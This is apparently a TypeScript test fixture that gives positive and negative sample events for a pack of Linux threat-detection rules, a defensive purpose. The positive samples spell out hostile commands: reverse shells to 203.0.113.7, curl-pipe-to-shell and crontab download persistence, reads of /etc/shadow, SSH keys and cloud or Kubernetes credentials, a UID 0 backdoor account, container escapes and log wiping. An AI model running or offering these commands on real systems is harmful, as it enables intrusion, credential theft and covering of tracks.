import type { FieldValue, SigmaEvent } from "../detect-types";

/**
 * Positive and negative test events of the built-in pack, keyed by rule title. Events have the
 * shape the normalizers give (Sigma Linux taxonomy names beside sensor keys such as Falco's
 * `container.id`); builtin-rules.test.ts runs every case through the real loader and detector,
 * and also feeds raw Falco, auditd and osquery input through the normalizers for a sample.
 */
export interface BuiltinCase {
  readonly positive: readonly SigmaEvent[];
  readonly negative: readonly SigmaEvent[];
}

type Fields = Record<string, FieldValue>;
const T0 = Date.parse("2026-11-26T10:00:00Z");

function event(
  category: string | undefined,
  fields: Fields,
  source: SigmaEvent["source"],
): SigmaEvent {
  return {
    logsource: category ? { product: "linux", category } : { product: "linux" },
    fields,
    timestamp: T0,
    source,
  };
}

/** A process_creation event (Falco spawned_process collector or osquery process_events). */
export const proc = (Image: string, CommandLine: string, extra: Fields = {}): SigmaEvent =>
  event("process_creation", { Image, CommandLine, User: "root", ...extra }, "falco");

/** The same process inside a container (Falco `container.id`). */
export const inContainer = (Image: string, CommandLine: string, extra: Fields = {}): SigmaEvent =>
  proc(Image, CommandLine, { "container.id": "3ad7b26ded6d", "container.name": "web", ...extra });

/** A file_event (file created or written). */
export const file = (TargetFilename: string, Image = "/usr/bin/vim"): SigmaEvent =>
  event("file_event", { TargetFilename, Image }, "falco");

/** A network_connection event (outbound). */
export const net = (Image: string, DestinationIp: string, DestinationPort: number): SigmaEvent =>
  event(
    "network_connection",
    { Image, DestinationIp, DestinationPort, Initiated: "true" },
    "falco",
  );

/** A per-record auditd event (`service: auditd`): `type` plus the raw keys. */
export const audit = (type: string, fields: Fields): SigmaEvent => ({
  logsource: { product: "linux", service: "auditd" },
  fields: { type, ...fields },
  timestamp: T0,
  source: "auditd",
});

const BASH = "/usr/bin/bash";

export const BUILTIN_CASES: Readonly<Record<string, BuiltinCase>> = {
  // --- reverse shells
  "Bash reverse shell through /dev/tcp or /dev/udp": {
    positive: [proc(BASH, "bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")],
    negative: [proc(BASH, "bash -c echo hello > /dev/null")],
  },
  "Netcat started with a program to execute": {
    positive: [proc("/usr/bin/ncat", "ncat 203.0.113.7 4444 -e /bin/sh")],
    negative: [proc("/usr/bin/nc", "nc -zv db.internal 5432")],
  },
  "Socat connecting a shell to the network": {
    positive: [proc("/usr/bin/socat", "socat tcp:203.0.113.7:4444 exec:/bin/bash,pty,stderr")],
    negative: [proc("/usr/bin/socat", "socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80")],
  },
  "Scripting language reverse shell one-liner": {
    positive: [
      proc(
        "/usr/bin/python3",
        `python3 -c import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")`,
      ),
    ],
    negative: [proc("/usr/bin/python3", "python3 -m http.server 8000")],
  },
  "Named pipe relayed to a network client": {
    positive: [
      proc(
        "/usr/bin/sh",
        "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1| nc 203.0.113.7 4444 >/tmp/f",
      ),
    ],
    negative: [proc("/usr/bin/mkfifo", "mkfifo /run/app/control")],
  },
  "OpenSSL client used as an encrypted shell channel": {
    positive: [proc("/usr/bin/openssl", "openssl s_client -quiet -connect 203.0.113.7:443")],
    negative: [
      proc("/usr/bin/openssl", "openssl s_client -connect example.com:443 -servername example.com"),
    ],
  },
  "Shell spawned by a web server or application runtime": {
    positive: [proc("/bin/sh", "sh -c id", { ParentImage: "/usr/sbin/php-fpm" })],
    negative: [proc("/bin/sh", "sh -c id", { ParentImage: "/usr/sbin/sshd" })],
  },
  "Shell making an outbound connection to a public address": {
    positive: [net("/usr/bin/bash", "203.0.113.7", 4444)],
    negative: [net("/usr/bin/bash", "10.1.2.3", 8080), net("/usr/bin/curl", "203.0.113.7", 443)],
  },
  // --- container escape
  "nsenter into the namespaces of PID 1": {
    positive: [
      inContainer("/usr/bin/nsenter", "nsenter -t 1 -m -u -i -n sh"),
      proc("/usr/bin/nsenter", "nsenter --target=1 --mount"),
    ],
    negative: [proc("/usr/bin/nsenter", "nsenter -t 1234 -n ip addr")],
  },
  "Host block device mounted inside a container": {
    positive: [inContainer("/usr/bin/mount", "mount /dev/sda1 /mnt")],
    negative: [
      proc("/usr/bin/mount", "mount /dev/sda1 /mnt", { "container.id": "host" }),
      inContainer("/usr/bin/mount", "mount -t tmpfs tmpfs /cache"),
    ],
  },
  "Container runtime socket used from a process": {
    positive: [
      inContainer(
        "/usr/bin/curl",
        "curl --unix-socket /var/run/docker.sock http://localhost/containers/json",
      ),
    ],
    negative: [proc("/usr/bin/curl", "curl http://localhost:8080/health")],
  },
  "cgroup release_agent escape technique": {
    positive: [inContainer("/bin/sh", "sh -c echo /cmd > /tmp/cgrp/release_agent")],
    negative: [proc("/bin/sh", "sh -c cat /sys/fs/cgroup/memory.max")],
  },
  "cgroup release_agent file written": {
    positive: [file("/tmp/cgrp/release_agent", "/bin/sh")],
    negative: [file("/tmp/cgrp/tasks", "/bin/sh")],
  },
  "Kernel core_pattern written": {
    positive: [file("/proc/sys/kernel/core_pattern", "/bin/sh")],
    negative: [
      file("/proc/sys/kernel/core_pattern", "/usr/lib/systemd/systemd-sysctl"),
      file("/proc/sys/kernel/hostname", "/bin/sh"),
    ],
  },
  "Container breakout toolkit executed": {
    positive: [
      inContainer("/tmp/cdk", "cdk evaluate --full"),
      inContainer("/bin/sh", "sh ./deepce.sh"),
    ],
    negative: [inContainer("/usr/bin/id", "id -u")],
  },
  "chroot into a mounted host root": {
    positive: [inContainer("/usr/sbin/chroot", "chroot /host /bin/bash")],
    negative: [proc("/usr/sbin/chroot", "chroot /srv/build/rootfs-jail /bin/true")],
  },
  // --- crypto-miners
  "Known cryptocurrency miner executed": {
    positive: [inContainer("/tmp/.x/xmrig", "xmrig -o pool:443")],
    negative: [proc("/usr/bin/xmllint", "xmllint --noout file.xml")],
  },
  "Stratum mining pool URL on a command line": {
    positive: [proc("/tmp/kworker", "kworker -o stratum+tcp://pool.example.net:3333 -u wallet")],
    negative: [proc("/usr/bin/curl", "curl https://pool.example.net/")],
  },
  "Miner command line options": {
    positive: [proc("/opt/app/worker", "worker --donate-level 1 -a rx/0")],
    negative: [proc("/usr/bin/node", "node server.js --port 3000")],
  },
  "Connection to a common mining pool port": {
    positive: [net("/tmp/worker", "198.51.100.20", 3333)],
    negative: [net("/tmp/worker", "10.0.0.20", 3333), net("/usr/bin/curl", "198.51.100.20", 443)],
  },
  "Huge pages or watchdog tuned for mining": {
    positive: [proc("/usr/sbin/sysctl", "sysctl -w vm.nr_hugepages=1280")],
    negative: [proc("/usr/sbin/sysctl", "sysctl -w net.ipv4.ip_forward=1")],
  },
  // --- credential access
  "Shadow password file read by a generic tool": {
    positive: [proc("/usr/bin/cat", "cat /etc/shadow")],
    negative: [
      proc("/usr/bin/cat", "cat /etc/passwd"),
      proc("/usr/bin/passwd", "passwd alice /etc/shadow"),
    ],
  },
  "Shadow password file in an auditd path record": {
    positive: [audit("PATH", { item: "0", name: "/etc/shadow", nametype: "NORMAL" })],
    negative: [
      audit("PATH", { item: "0", name: "/etc/passwd", nametype: "NORMAL" }),
      audit("CWD", { cwd: "/etc/shadow" }),
    ],
  },
  "Linux credential dumping tool": {
    positive: [proc("/usr/bin/python3", "python3 laZagne.py all")],
    negative: [proc("/usr/bin/python3", "python3 manage.py migrate")],
  },
  "SSH private key read by a non-SSH program": {
    positive: [proc("/usr/bin/cat", "cat /home/alice/.ssh/id_ed25519")],
    negative: [
      proc("/usr/bin/ssh-add", "ssh-add /home/alice/.ssh/id_ed25519"),
      proc("/usr/bin/cat", "cat /home/alice/.ssh/id_ed25519.pub"),
    ],
  },
  "Cloud instance metadata credentials requested": {
    positive: [
      inContainer(
        "/usr/bin/curl",
        "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role",
      ),
    ],
    negative: [proc("/usr/bin/curl", "curl http://169.254.169.254/latest/meta-data/instance-id")],
  },
  "Kubernetes service account token read": {
    positive: [
      inContainer("/usr/bin/cat", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"),
    ],
    negative: [
      inContainer("/usr/bin/cat", "cat /var/run/secrets/kubernetes.io/serviceaccount/namespace"),
    ],
  },
  "Recursive search for passwords in files": {
    positive: [proc("/usr/bin/grep", "grep -R password /etc /home")],
    negative: [
      proc("/usr/bin/grep", "grep password /etc/app.conf"),
      proc("/usr/bin/grep", "grep -r TODO src"),
    ],
  },
  // --- persistence
  "Cron job file written": {
    positive: [file("/etc/cron.d/update", "/usr/bin/bash"), file("/etc/crontab", "/usr/bin/sed")],
    negative: [file("/etc/cron.d/sysstat", "/usr/bin/dpkg"), file("/etc/hosts", "/usr/bin/bash")],
  },
  "Crontab installed with a download or decoding step": {
    positive: [
      proc(
        BASH,
        `bash -c (crontab -l; echo "* * * * * curl -s http://203.0.113.7/x | sh") | crontab -`,
      ),
    ],
    negative: [proc("/usr/bin/crontab", "crontab -l")],
  },
  "Systemd unit or timer created": {
    positive: [
      file("/etc/systemd/system/dbus-helper.service", "/usr/bin/bash"),
      file("/home/alice/.config/systemd/user/sync.timer", "/usr/bin/cp"),
    ],
    negative: [
      file("/lib/systemd/system/nginx.service", "/usr/bin/dpkg"),
      file("/etc/systemd/system/README", "/usr/bin/bash"),
    ],
  },
  "Shell profile modified": {
    positive: [
      file("/root/.bashrc", "/usr/bin/bash"),
      file("/etc/profile.d/proxy.sh", "/usr/bin/tee"),
    ],
    negative: [
      file("/etc/profile.d/locale.sh", "/usr/bin/dpkg"),
      file("/root/.bash_history", "/usr/bin/bash"),
    ],
  },
  "SSH authorized_keys modified": {
    positive: [file("/root/.ssh/authorized_keys", "/usr/bin/bash")],
    negative: [
      file("/home/ubuntu/.ssh/authorized_keys", "/usr/bin/cloud-init"),
      file("/root/.ssh/known_hosts", "/usr/bin/ssh"),
    ],
  },
  "Account created with UID 0 or added to an admin group": {
    positive: [
      proc("/usr/sbin/useradd", "useradd -o -u 0 -g 0 backdoor"),
      proc("/usr/sbin/usermod", "usermod -aG sudo mallory"),
    ],
    negative: [
      proc("/usr/sbin/useradd", "useradd -m -u 1001 alice"),
      proc("/usr/sbin/usermod", "usermod -aG docker alice"),
    ],
  },
  "Sudoers configuration modified": {
    positive: [file("/etc/sudoers.d/90-nopasswd", "/usr/bin/tee")],
    negative: [file("/etc/sudoers.d/README", "/usr/bin/dpkg")],
  },
  "Dynamic linker preload file written": {
    positive: [file("/etc/ld.so.preload", "/usr/bin/bash")],
    negative: [file("/etc/ld.so.conf.d/libc.conf", "/usr/bin/bash")],
  },
  "LD_PRELOAD set on a command line": {
    positive: [proc("/usr/bin/env", "env LD_PRELOAD=/tmp/libhook.so /usr/sbin/sshd")],
    negative: [proc("/usr/bin/env", "env LD_LIBRARY_PATH=/opt/app/lib /opt/app/bin/app")],
  },
  "Init script or rc.local modified": {
    positive: [file("/etc/rc.local", "/usr/bin/bash"), file("/etc/init.d/networkd", "/usr/bin/cp")],
    negative: [file("/etc/init.d/nginx", "/usr/bin/dpkg")],
  },
  "udev rule created": {
    positive: [file("/etc/udev/rules.d/99-usb.rules", "/usr/bin/bash")],
    negative: [file("/usr/lib/udev/rules.d/60-block.rules", "/usr/bin/dpkg")],
  },
  "SUID bit set on a file": {
    positive: [
      proc("/usr/bin/chmod", "chmod u+s /tmp/bash"),
      proc("/usr/bin/chmod", "chmod 4755 /usr/local/bin/helper"),
    ],
    negative: [
      proc("/usr/bin/chmod", "chmod 0755 /usr/local/bin/helper"),
      proc("/usr/bin/chmod", "chmod u+x run.sh"),
    ],
  },
  // --- kernel modules
  "Kernel module loaded with insmod or modprobe": {
    positive: [proc("/usr/sbin/insmod", "insmod /lib/modules/6.8.0/extra/diamorphine.ko")],
    negative: [
      proc("/usr/sbin/modprobe", "modprobe -r floppy"),
      proc("/usr/sbin/modprobe", "modprobe nf_conntrack", {
        ParentImage: "/usr/lib/systemd/systemd-modules-load",
      }),
    ],
  },
  "Kernel module loaded from a writable directory": {
    positive: [proc("/usr/sbin/insmod", "insmod /tmp/rk.ko")],
    negative: [proc("/usr/sbin/insmod", "insmod /lib/modules/6.8.0/kernel/drivers/net/dummy.ko")],
  },
  "init_module or finit_module syscall": {
    positive: [
      audit("SYSCALL", { arch: "c000003e", syscall: "313", success: "yes", exe: "/usr/bin/kmod" }),
      audit("SYSCALL", { arch: "c000003e", syscall: "9999", SYSCALL: "init_module" }),
    ],
    negative: [
      audit("SYSCALL", { arch: "c000003e", syscall: "59", SYSCALL: "execve" }),
      audit("SYSCALL", { arch: "c00000b7", syscall: "175" }),
    ],
  },
  "Kernel module file written": {
    positive: [file("/lib/modules/6.8.0/extra/rk.ko", "/usr/bin/cp")],
    negative: [
      file("/lib/modules/6.8.0/kernel/fs/ext4.ko.zst", "/usr/bin/dpkg"),
      file("/lib/modules/6.8.0/modules.dep", "/usr/bin/cp"),
    ],
  },
  // --- log tampering
  "System logs deleted or truncated": {
    positive: [
      proc("/usr/bin/shred", "shred -u /var/log/auth.log"),
      proc("/usr/bin/truncate", "truncate -s 0 /var/log/syslog"),
    ],
    negative: [
      proc("/usr/bin/rm", "rm /var/log/app/old.log.gz", { ParentImage: "/usr/sbin/logrotate" }),
      proc("/usr/bin/rm", "rm -rf /tmp/build"),
    ],
  },
  "Shell history cleared or disabled": {
    positive: [
      proc(BASH, "bash -c unset HISTFILE; id"),
      proc("/usr/bin/rm", "rm -f /root/.bash_history"),
    ],
    negative: [
      proc("/usr/bin/cat", "cat /root/.bash_history"),
      proc(BASH, "bash -c history | tail"),
    ],
  },
  "Audit daemon stopped or audit rules removed": {
    positive: [
      proc("/usr/sbin/auditctl", "auditctl -D"),
      proc("/usr/bin/systemctl", "systemctl stop auditd"),
    ],
    negative: [
      proc("/usr/sbin/auditctl", "auditctl -l"),
      proc("/usr/bin/systemctl", "systemctl status auditd"),
    ],
  },
  "Audit configuration changed": {
    positive: [
      audit("CONFIG_CHANGE", { auid: "1000", op: "remove_rule", key: "exec", res: "1" }),
      audit("CONFIG_CHANGE", { audit_enabled: "0", old: "1" }),
    ],
    negative: [
      audit("CONFIG_CHANGE", { auid: "1000", op: "add_rule", key: "exec", res: "1" }),
      audit("SYSCALL", { op: "remove_rule" }),
    ],
  },
  "Systemd journal vacuumed or deleted": {
    positive: [
      proc("/usr/bin/journalctl", "journalctl --vacuum-time=1s"),
      proc("/usr/bin/rm", "rm -rf /var/log/journal/abc"),
    ],
    negative: [proc("/usr/bin/journalctl", "journalctl -u nginx --since today")],
  },
  "Security sensor or log shipper stopped": {
    positive: [
      proc("/usr/bin/systemctl", "systemctl stop falco"),
      proc("/usr/bin/pkill", "pkill -9 osqueryd"),
    ],
    negative: [
      proc("/usr/bin/systemctl", "systemctl restart nginx"),
      proc("/usr/bin/systemctl", "systemctl status falco"),
    ],
  },
  // --- container runtime
  "Privileged container started": {
    positive: [proc("/usr/bin/docker", "docker run --rm -it --privileged alpine sh")],
    negative: [
      proc("/usr/bin/docker", "docker run --rm -it alpine sh"),
      proc("/usr/bin/docker", "docker inspect --privileged-check x"),
    ],
  },
  "Container started with the host root filesystem mounted": {
    positive: [proc("/usr/bin/docker", "docker run -v /:/host -it ubuntu chroot /host")],
    negative: [proc("/usr/bin/docker", "docker run -v /srv/data:/data -it ubuntu")],
  },
  "Container started in host namespaces or without confinement": {
    positive: [proc("/usr/bin/podman", "podman run --pid=host -it fedora")],
    negative: [proc("/usr/bin/podman", "podman run --network=bridge -it fedora")],
  },
  "Process in a privileged container": {
    positive: [inContainer("/bin/sh", "sh", { "container.privileged": true })],
    negative: [
      inContainer("/bin/sh", "sh", { "container.privileged": false }),
      proc("/bin/sh", "sh", { "container.privileged": true, "container.id": "host" }),
    ],
  },
  "Package manager run inside a container": {
    positive: [
      inContainer("/usr/bin/apt-get", "apt-get install -y nmap"),
      inContainer("/sbin/apk", "apk add socat"),
    ],
    negative: [
      proc("/usr/bin/apt-get", "apt-get upgrade", { "container.id": "host" }),
      proc("/usr/bin/apt-get", "apt-get upgrade"),
    ],
  },
  "Remote script piped into a shell": {
    positive: [
      proc("/bin/sh", "sh -c curl -fsSL http://203.0.113.7/i.sh | bash"),
      proc("/bin/sh", "sh -c wget -qO- http://x/y|sh"),
    ],
    negative: [
      proc("/bin/sh", "sh -c curl -fsSL http://x/y -o /tmp/y.sh"),
      proc("/bin/sh", "sh -c curl http://x | shasum"),
    ],
  },
  "Program executed from a temporary directory": {
    positive: [proc("/tmp/.ICE-unix/kdevtmp", "kdevtmp"), proc("/dev/shm/x", "x")],
    negative: [proc("/usr/bin/tmpreaper", "tmpreaper 24h /tmp")],
  },
  "File in a temporary directory made executable": {
    positive: [proc("/usr/bin/chmod", "chmod +x /tmp/payload")],
    negative: [
      proc("/usr/bin/chmod", "chmod +x /usr/local/bin/tool"),
      proc("/usr/bin/chmod", "chmod 644 /tmp/notes"),
    ],
  },
  "kubectl run or exec with a privileged override": {
    positive: [
      proc(
        "/usr/local/bin/kubectl",
        `kubectl run x --image=alpine --overrides={"spec":{"hostPID":true}}`,
      ),
      proc("/usr/local/bin/kubectl", "kubectl debug node/worker-1 -it --image=busybox"),
    ],
    negative: [
      proc("/usr/local/bin/kubectl", "kubectl run web --image=nginx"),
      proc("/usr/local/bin/kubectl", "kubectl get pods"),
    ],
  },
};
